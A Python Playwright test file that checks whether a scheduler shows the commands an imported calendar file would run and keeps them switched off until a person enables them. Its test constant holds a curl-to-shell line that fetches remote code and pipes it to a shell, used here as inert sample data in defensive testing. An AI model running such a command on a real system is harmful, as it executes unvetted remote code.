"""A calendar file shows what it would run before anything of it is kept, and nothing of a stranger's is switched on
that was not looked at."""

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

from playwright.sync_api import Locator, Page, expect

from synapse.ical.reading import read_calendar
from tests.parts.harness import SynapseUnderTest

SignIn = Callable[[SynapseUnderTest], Page]
COMMAND = ['sh', '-c', 'curl -s https://example.org/x | sh # <b>harmless</b>']


def a_file(folder: Path, *titles: str) -> Path:
    """A file with an event for each title that runs `COMMAND` in an hour."""
    at = datetime.now(UTC) + timedelta(hours=1)
    command = json.dumps({'command': COMMAND}).replace(',', r'\,').replace(';', r'\;')
    lines = ['BEGIN:VCALENDAR', 'VERSION:2.0']
    for number, title in enumerate(titles):
        lines += ['BEGIN:VEVENT', f'UID:{number}@stranger', f'SUMMARY:{title}', f'DTSTART:{at:%Y%m%dT%H%M%SZ}']
        lines += ['X-SYNAPSE-PIPELINE:RunCommand', f'X-SYNAPSE-PARAMETERS:{command}', 'END:VEVENT']
    path = folder / 'team.ics'
    path.write_text('\r\n'.join([*lines, 'END:VCALENDAR', '']), newline='')
    return path


def choose(page: Page, program: SynapseUnderTest, file: Path) -> Locator:
    """Give the page the file; the question that follows."""
    page.goto(f'{program.url}settings')
    page.get_by_label('Import a calendar file').set_input_files(file)
    return page.get_by_role('dialog', name='Import')


def kept(program: SynapseUnderTest) -> dict[str, bool]:
    """Which events there are by their titles, and whether they are switched on."""
    with program.api as api:
        text = api.get('/scheduler/calendar.ics').content
    return {draft.name: draft.values['enabled'] for draft in read_calendar(text, zone='UTC').drafts}


def test_what_a_file_would_run_is_shown_in_full_and_kept_off_until_a_person_switches_it_on(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path, problems: list[str]
) -> None:
    page = open_tab(program)

    question = choose(page, program, a_file(user_folder, '<i>Lunch</i>'))
    expect(question.get_by_role('listitem')).to_have_count(1)
    expect(question.get_by_text('<i>Lunch</i>', exact=True)).to_be_visible()
    expect(question.get_by_label('It runs')).to_have_text(f'RunCommand\ncommand: {json.dumps(COMMAND)}')
    assert kept(program) == {}
    question.get_by_role('button', name='Import, switched off').click()

    expect(page.get_by_text('1 new. 1 switched off until you switch them on.')).to_be_visible()
    assert kept(program) == {'<i>Lunch</i>': False}

    page.goto(f'{program.url}scheduler')
    chip = page.get_by_role('button', name='<i>Lunch</i>, switched off')
    expect(chip).to_be_visible()
    chip.click()
    dialog = page.get_by_role('dialog', name='Edit event')
    expect(dialog.get_by_label('It runs')).to_have_text(f'RunCommand\ncommand: {json.dumps(COMMAND)}')
    dialog.get_by_label('Active').press('Space')
    expect(dialog.get_by_label('Active')).to_be_checked()
    dialog.get_by_role('button', name='Save event').click()
    expect(page.get_by_role('button', name='<i>Lunch</i>, planned')).to_be_visible()
    assert kept(program) == {'<i>Lunch</i>': True}
    assert problems == []


def test_an_open_dialog_shows_what_a_file_has_made_of_its_event(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path
) -> None:
    page = open_tab(program)
    with program.api as api:
        values = {'pipeline': 'RunCommand', 'parameters': {'command': ['true']}, 'timezone': 'UTC', 'title': 'Mine'}
        start = (datetime.now(UTC) + timedelta(hours=1)).replace(tzinfo=None, microsecond=0).isoformat()
        id = api.post('/scheduler/create', json={**values, 'start': start}).json()['id']
        page.goto(f'{program.url}scheduler')
        page.get_by_role('button', name='Mine, planned').click()
        dialog = page.get_by_role('dialog', name='Edit event')
        expect(dialog.get_by_text('Saving changes only')).to_have_count(0)
        foreign = a_file(user_folder, 'Mine').read_text().replace('0@stranger', f'{id}@synapse\r\nSEQUENCE:9')

        answer = api.post('/scheduler/import', content=foreign, headers={'Content-Type': 'text/calendar'})

    assert answer.json()['disabled'] == [id]
    expect(dialog.get_by_label('It runs')).to_have_text(f'RunCommand\ncommand: {json.dumps(COMMAND)}')


def test_only_what_is_ticked_is_switched_on_and_cancel_keeps_nothing(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path
) -> None:
    page = open_tab(program)
    file = a_file(user_folder, 'Lunch', 'Dinner')

    question = choose(page, program, file)
    question.get_by_role('button', name='Cancel').click()
    expect(question).to_be_hidden()
    assert kept(program) == {}

    question = choose(page, program, file)
    question.get_by_label('Switch on Dinner').check()
    question.get_by_role('button', name='Import, switch 1 on').click()
    expect(page.get_by_text('2 new. 1 switched off until you switch them on.')).to_be_visible()

    assert kept(program) == {'Lunch': False, 'Dinner': True}


def test_a_long_file_shows_its_first_events_and_counts_the_others(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path
) -> None:
    page = open_tab(program)

    question = choose(page, program, a_file(user_folder, *(f'Lunch {number}' for number in range(1500))))

    expect(question.get_by_text('and 1,480 more, 1,480 of them stay switched off.')).to_be_visible()
    expect(question.get_by_role('listitem')).to_have_count(20)
    expect(question.get_by_text('1,500 new.')).to_be_visible()


def test_what_is_left_out_is_named_and_whole_days_run_at_the_chosen_time(
    program: SynapseUnderTest, open_tab: SignIn, user_folder: Path
) -> None:
    page = open_tab(program)
    file = a_file(user_folder, 'Lunch', 'Whole day', 'Odd')
    text = file.read_text().replace('\nSUMMARY:Odd', '\nSUMMARY=Odd')
    second = text.index('DTSTART', text.index('DTSTART') + 1)
    file.write_text(f'{text[:second]}DTSTART;VALUE=DATE:20311006{text[text.index(chr(10), second) - 1 :]}', newline='')

    question = choose(page, program, file)
    question.get_by_text('1 left out').click()
    expect(question.get_by_text("'2@stranger' has a line that cannot be read: SUMMARY=Odd")).to_be_visible()
    at = question.get_by_label('Events without a time of day run at')
    expect(at).to_have_value('09:00')
    at.fill('07:15')
    at.blur()
    expect(page.get_by_text('Next on Mon 6 Oct 2031, 07:15.')).to_be_visible()
    page.get_by_role('button', name='Import, switched off').last.click()

    expect(page.get_by_text('2 new. 2 switched off until you switch them on.')).to_be_visible()
    with program.api as api:
        events = api.get('/scheduler/list').json()['events']
    assert [event['start'] for event in events if event['title'] == 'Whole day'] == ['2031-10-06T07:15:00']
